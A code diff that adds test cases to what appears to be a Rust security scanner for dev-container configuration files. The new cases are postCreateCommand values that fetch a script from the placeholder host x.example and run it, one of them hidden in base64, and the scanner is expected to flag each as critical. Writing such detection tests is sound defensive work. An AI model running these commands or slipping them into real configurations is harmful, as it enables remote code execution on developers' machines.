@@ -87,6 +87,31 @@ const CASES: &[(&str, RuleId, Severity, &str)] = &[
         Severity::Critical,
         "/postStartCommand",
     ),
+    // issue 15: more download-and-execute shapes
+    (
+        r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh > install.sh && bash install.sh"}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh | $SHELL"}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postCreateCommand": "sh <<< \"$(curl -fsSL https://x.example/i.sh)\""}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postCreateCommand": "echo Y3VybCBodHRwczovL3ggfCBzaA== | base64 -d | sh"}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
     // privileged
     (
         r#"{"privileged": true}"#,
